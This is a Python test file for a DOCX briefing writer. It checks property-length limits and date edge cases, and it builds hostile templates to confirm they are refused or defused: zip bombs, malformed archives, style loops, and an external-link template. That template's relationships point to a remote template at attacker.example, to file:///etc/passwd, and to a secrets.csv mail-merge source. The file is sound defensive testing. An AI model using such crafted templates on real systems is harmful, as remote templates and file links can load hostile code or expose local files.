"""DOCX briefing under attack: any valid item writes a file Word, python-docx and LibreOffice
open, and a hostile ``--template`` is refused with a one-line ``WriterError`` or defused.

Hostile templates are crafted in ``tmp_path`` from the packaged reference document.
"""

from __future__ import annotations

import dataclasses
import io
import os
import re
import struct
import subprocess
import zipfile
from datetime import UTC, datetime, timedelta, timezone
from typing import TYPE_CHECKING

import docx
import pytest
from docx.opc.constants import RELATIONSHIP_TYPE as RT
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from docexport.errors import WriterError
from docexport.readers.text import read_bytes
from docexport.writers import WriterOptions
from docexport.writers.docx import DocxWriter
from docexport.writers.docx.scripts import RUN_CHARS
from docexport.writers.docx.untrusted import TemplateLimits, safe_package
from tests.conftest import REPO, article, system_tool

if TYPE_CHECKING:
    from pathlib import Path

    from docexport.model import NewsItem

TEMPLATE = REPO / "templates" / "briefing-reference.docx"
MIB = 1024 * 1024
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def item_of(headline: str = "Headline", *paragraphs: str) -> NewsItem:
    text = article(headline, *(paragraphs or ("Body.",)))
    return read_bytes(text.encode("utf-8"), "a.txt")


def render(item: NewsItem, **options: object) -> bytes:
    out = io.BytesIO()
    DocxWriter(WriterOptions(**options)).write(item, out)  # type: ignore[arg-type]
    return out.getvalue()


def part(data: bytes, name: str) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read(name).decode("utf-8")


def banner(document: docx.document.Document) -> str:
    return document.sections[0].header.paragraphs[0].text


def units(text: str) -> int:
    return len(text.encode("utf-16-le")) // 2


# --- core properties: at most 255 characters, no control characters ---------------------


def test_long_headline_is_cut_in_the_title_property_but_whole_in_the_body() -> None:
    headline = "H" * 250 + " tail words"  # 261 characters
    document = docx.Document(io.BytesIO(render(item_of(headline))))
    title = document.core_properties.title
    assert len(title) == 255
    assert title.endswith("…")
    assert title.startswith("H" * 250)
    assert document.paragraphs[0].text == headline


def test_emoji_count_twice_towards_the_limit() -> None:
    headline = "\U0001f600" * 200  # 400 UTF-16 units, as Word counts them
    title = docx.Document(io.BytesIO(render(item_of(headline)))).core_properties.title
    assert units(title) <= 255
    assert title == "\U0001f600" * 127 + "…"


def test_long_file_name_is_cut_in_the_comments_but_whole_in_the_provenance() -> None:
    item = item_of()
    name = "f" * 300 + ".txt"
    item = dataclasses.replace(item, source=dataclasses.replace(item.source, file_name=name))
    data = render(item)
    document = docx.Document(io.BytesIO(data))
    assert len(document.core_properties.comments) == 255
    assert document.core_properties.comments.endswith("…")
    assert name in part(data, "word/document.xml")


@pytest.mark.parametrize(
    ("classification", "category", "shown"),
    [
        ("C" * 300, "C" * 254 + "…", "C" * 300),
        ("SECRET\x01\x1b//NOFORN", "SECRET //NOFORN", "SECRET//NOFORN"),
        ("SECRET\tREL TO\nUSA", "SECRET REL TO USA", "SECRET"),
        ("  TOP SECRET  ", "TOP SECRET", "TOP SECRET"),
    ],
)
def test_classification_property_is_cleaned_and_cut(
    classification: str, category: str, shown: str
) -> None:
    document = docx.Document(io.BytesIO(render(item_of(), classification=classification)))
    assert document.core_properties.category == category
    assert shown in banner(document)  # the banner shows the marking in full


def test_identifiers_too_long_are_left_out_or_shortened_by_subtag() -> None:
    item = item_of()
    guid = item.guid.replace("docexport.invalid", "p" * 300)
    language = "en-GB-" + "-".join(["variant1"] * 40)
    document = docx.Document(
        io.BytesIO(render(dataclasses.replace(item, guid=guid, language=language)))
    )
    assert document.core_properties.identifier == ""  # a cut identifier identifies nothing
    assert len(document.core_properties.language) <= 255
    assert document.core_properties.language.startswith("en-GB-variant1-")
    assert not document.core_properties.language.endswith("-")


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.text(min_size=1, max_size=400).filter(lambda text: "\n" not in text),
    st.lists(st.text(min_size=1, max_size=300), max_size=3),
    st.text(max_size=600),
)
def test_any_headline_byline_and_classification_write_a_document_that_reopens(
    headline: str, bylines: list[str], classification: str
) -> None:
    item = dataclasses.replace(item_of(), headline=headline, bylines=tuple(bylines))
    document = docx.Document(io.BytesIO(render(item, classification=classification)))
    core = document.core_properties
    for value in (core.title, core.author, core.category, core.comments, core.keywords):
        assert units(value) <= 255


# --- dates at the edge of the calendar ---------------------------------------------------


def test_year_below_1000_is_written_with_four_digits() -> None:
    created = datetime(999, 1, 1, tzinfo=UTC)
    for data in (
        render(dataclasses.replace(item_of(), created=created)),
        render(item_of(), generated=created),
    ):
        core = part(data, "docProps/core.xml")
        assert ">0999-01-01T00:00:00Z</dcterms:created>" in core
        assert ">0999-01-01T00:00:00Z</dcterms:modified>" in core
        assert docx.Document(io.BytesIO(data)).core_properties.created == created
        assert "0999-01-01T00:00:00Z" in part(data, "word/document.xml")  # provenance


def test_time_past_year_9999_in_utc_keeps_its_own_offset_and_drops_the_dates() -> None:
    created = datetime(9999, 12, 31, 23, 59, 59, tzinfo=timezone(timedelta(hours=-14)))
    data = render(dataclasses.replace(item_of(), created=created))
    document = docx.Document(io.BytesIO(data))
    assert document.core_properties.created is None  # 10000-01-01Z has no W3CDTF form
    assert document.core_properties.modified is None
    body = part(data, "word/document.xml")
    assert "9999-12-31T23:59-14:00" in body  # title block: the time as given
    assert "9999-12-31T23:59:59-14:00" in body  # provenance


# --- a very long paragraph ---------------------------------------------------------------


def test_two_megabyte_paragraph_is_split_into_runs_and_reopens(tmp_path: Path) -> None:
    # One 9.9 MiB run was a text node over libxml2's 10,000,000-byte limit: python-docx
    # could not reopen the file. Runs are now cut at RUN_CHARS, which 2 MB shows quickly.
    words = "lorem ipsum dolor sit amet، لا \U0001f468\u200d\U0001f469 "
    paragraph = (words * (2 * MIB // len(words)))[: 2 * MIB].strip()
    item = item_of("Long", paragraph)
    paragraph = item.body[0].text
    data = render(item)
    texts = re.findall(r"<w:t(?: [^>]*)?>([^<]*)</w:t>", part(data, "word/document.xml"))
    assert max(len(text) for text in texts) <= RUN_CHARS
    document = docx.Document(io.BytesIO(data))
    assert paragraph in [p.text for p in document.paragraphs]
    source = tmp_path / "long.docx"
    source.write_bytes(data)
    soffice = system_tool("soffice", "libreoffice")
    subprocess.run(
        [soffice, f"-env:UserInstallation={(tmp_path / 'lo').as_uri()}", "--headless",
         "--convert-to", "txt:Text (encoded):UTF8", "--outdir", str(tmp_path), str(source)],
        capture_output=True, timeout=300, check=True,
    )  # fmt: skip
    assert paragraph in (tmp_path / "long.txt").read_text(encoding="utf-8-sig")


# --- hostile templates -------------------------------------------------------------------


def craft(path: Path, replace: dict[str, bytes] | None = None, add: dict[str, bytes] | None = None,
          compression: int = zipfile.ZIP_DEFLATED) -> Path:  # fmt: skip
    """The packaged template with some parts replaced and others added."""
    with zipfile.ZipFile(TEMPLATE) as source, zipfile.ZipFile(path, "w", compression) as out:
        for name in source.namelist():
            out.writestr(name, (replace or {}).get(name, source.read(name)))
        for name, data in (add or {}).items():
            out.writestr(name, data)
    return path


def refusal(template: Path) -> str:
    with pytest.raises(WriterError) as caught:
        render(item_of(), template=template)
    message = str(caught.value)
    assert message.startswith(f"{template}: ")
    assert "\n" not in message
    return message


def styles_with(filler: bytes, size: int) -> bytes:
    styles = zipfile.ZipFile(TEMPLATE).read("word/styles.xml")
    end = styles.rindex(b"</w:styles>")
    return styles[:end] + filler * (size // len(filler)) + styles[end:]


def test_zip_bomb_is_refused_before_it_is_unpacked(tmp_path: Path) -> None:
    # 300 MB of "<w:x/>" in styles.xml packs into 460 kB and took lxml past 12 GB.
    bomb = craft(tmp_path / "bomb.docx", {"word/styles.xml": styles_with(b"<w:x/>", 8 * MIB)})
    assert bomb.stat().st_size < 100_000
    assert "unpacks more than 100 times its size" in refusal(bomb)


def test_template_unpacking_past_50_mib_is_refused(tmp_path: Path) -> None:
    # Parts of 1 MiB pass the ratio check (it looks at bigger ones): the total stops them.
    parts = {f"word/media/image{i}.png": bytes(MIB) for i in range(51)}
    template = craft(tmp_path / "many-mib.docx", add=parts)
    assert template.stat().st_size < 200_000
    assert "unpacks to more than 50 MiB" in refusal(template)


def test_xml_past_its_limit_is_refused(tmp_path: Path) -> None:
    dense = styles_with(b'<w:x w:a="1"/>', 2 * MIB)
    path = craft(tmp_path / "dense.docx", {"word/styles.xml": dense})
    with pytest.raises(WriterError, match=r"XML parts unpack to more than 1 MiB"):
        safe_package(path.read_bytes(), path, TemplateLimits(xml_bytes=MIB, ratio=10_000))


def test_thousands_of_parts_are_refused(tmp_path: Path) -> None:
    parts = {f"customXml/item{i}.xml": b"<a/>" for i in range(3000)}
    message = refusal(craft(tmp_path / "parts.docx", add=parts))
    assert "has 3010 parts, more than 200" in message


def test_file_over_10_mib_is_refused_without_reading_it_all(tmp_path: Path) -> None:
    path = tmp_path / "huge.docx"
    with path.open("wb") as out:
        out.truncate(64 * MIB)  # sparse: instant to make
    assert "template is larger than 10 MiB" in refusal(path)


@pytest.mark.parametrize("kind", ["dev-zero", "directory", "fifo"])
def test_non_regular_files_are_refused_without_blocking(tmp_path: Path, kind: str) -> None:
    if kind == "dev-zero":
        path = tmp_path / "zero.docx"
        if not os.path.exists("/dev/zero"):
            pytest.skip("no /dev/zero on this system")
        path.symlink_to("/dev/zero")
    elif kind == "directory":
        path = tmp_path / "folder.docx"
        path.mkdir()
    else:
        if not hasattr(os, "mkfifo"):
            pytest.skip("no FIFOs on this system")
        path = tmp_path / "pipe.docx"
        os.mkfifo(path)  # no writer: a plain open() would block for ever
    assert "template is not a regular file" in refusal(path)


def test_external_links_are_dropped_from_the_briefing(tmp_path: Path) -> None:
    with zipfile.ZipFile(TEMPLATE) as source:
        settings = source.read("word/settings.xml").decode()
        document_rels = source.read("word/_rels/document.xml.rels").decode()
    settings = settings.replace(
        "<w:zoom ",
        '<w:linkStyles/><w:attachedTemplate r:id="rId1"/><w:mailMerge><w:mainDocumentType '
        'w:val="formLetters"/><w:query w:val="SELECT * FROM s"/><w:dataSource r:id="rId2"/>'
        "</w:mailMerge><w:zoom ",
    )
    document_rels = document_rels.replace(
        "</Relationships>",
        f'<Relationship Id="rId90" Type="{R}/hyperlink" Target="file:///etc/passwd" '
        'TargetMode="External"/></Relationships>',
    )
    settings_rels = (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
        'openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{R}/attachedTemplate" '
        'Target="http://attacker.example/remote.dotm" TargetMode="External"/>'
        f'<Relationship Id="rId2" Type="{R}/mailMergeSource" '
        'Target="file:///C:/secrets.csv" TargetMode="External"/></Relationships>'
    )
    template = craft(
        tmp_path / "linked.docx",
        {"word/settings.xml": settings.encode(), "word/_rels/document.xml.rels": document_rels.encode()},
        {"word/_rels/settings.xml.rels": settings_rels.encode()},
    )  # fmt: skip
    data = render(item_of(), template=template)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        everything = b"".join(archive.read(name) for name in archive.namelist())
    for marker in (b"External", b"attacker.example", b"file:", b"attachedTemplate",
                   b"linkStyles", b"mailMerge", b"SELECT"):  # fmt: skip
        assert marker not in everything
    rels = docx.Document(io.BytesIO(data)).part.rels.values()
    assert not any(rel.is_external for rel in rels)


def test_headers_only_the_template_body_used_are_not_carried_along(tmp_path: Path) -> None:
    template = docx.Document(str(TEMPLATE))
    template.add_section()  # the first section's properties move into a body paragraph
    first = template.sections[0]
    first.header.is_linked_to_previous = False
    first.header.paragraphs[0].text = "OLD LETTERHEAD"
    template.sections[1].header.is_linked_to_previous = True
    path = tmp_path / "sections.docx"
    template.save(str(path))
    data = render(item_of(), template=path)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert not any(b"OLD LETTERHEAD" in archive.read(name) for name in archive.namelist())
    headers = [
        r for r in docx.Document(io.BytesIO(data)).part.rels.values() if r.reltype == RT.HEADER
    ]
    assert len(headers) == 1


def test_loop_of_based_on_styles_is_refused(tmp_path: Path) -> None:
    # Heading 1 based on Heading 2 based on Heading 1 made LibreOffice crash (SIGSEGV) on
    # every briefing.
    template = docx.Document(str(TEMPLATE))
    template.styles["Heading 1"].base_style = template.styles["Heading 2"]
    template.styles["Heading 2"].base_style = template.styles["Heading 1"]
    path = tmp_path / "loop.docx"
    template.save(str(path))
    message = refusal(path)
    assert "is based on itself" in message
    assert "'Heading 1'" in message or "'Heading 2'" in message


@pytest.mark.parametrize(
    ("damage", "reason"),
    [
        ("encrypted", "is encrypted"),
        ("lzma", "uses a compression Word does not"),
        ("rels", "is not well-formed XML"),
        ("truncated", "is not a Word document"),
        ("lying-size", "is not a Word document"),  # a bomb declaring a small size
        ("zip-version", "is not a Word document"),  # NotImplementedError in zipfile
        ("bad-offset", "is not a Word document"),  # ValueError in zipfile
    ],
)
def test_damaged_packages_are_one_line_writer_errors(
    tmp_path: Path, damage: str, reason: str
) -> None:
    path = tmp_path / f"{damage}.docx"
    if damage == "lzma":
        craft(path, compression=zipfile.ZIP_LZMA)
    elif damage == "rels":
        craft(path, {"word/_rels/document.xml.rels": b"<Relationships"})
    else:
        path.write_bytes(damaged(bytearray(TEMPLATE.read_bytes()), damage))
    assert reason in refusal(path)


def damaged(data: bytearray, damage: str) -> bytes:
    """The packaged template with its zip directory damaged as ``damage`` says."""
    entry = data.find(b"PK\x01\x02")  # the first central directory entry
    if damage == "encrypted":  # bit 0 of the flags of every entry
        while entry >= 0:
            data[entry + 8] |= 1
            entry = data.find(b"PK\x01\x02", entry + 1)
    elif damage == "truncated":
        del data[len(data) // 2 :]
    elif damage == "bad-offset":  # the directory said to start 1 MiB further on
        struct.pack_into("<I", data, data.rfind(b"PK\x05\x06") + 16, MIB)
    elif damage == "lying-size":  # uncompressed size: 10 bytes
        struct.pack_into("<I", data, entry + 24, 10)
    else:  # version needed to extract: 24.7
        struct.pack_into("<H", data, entry + 6, 247)
    return bytes(data)
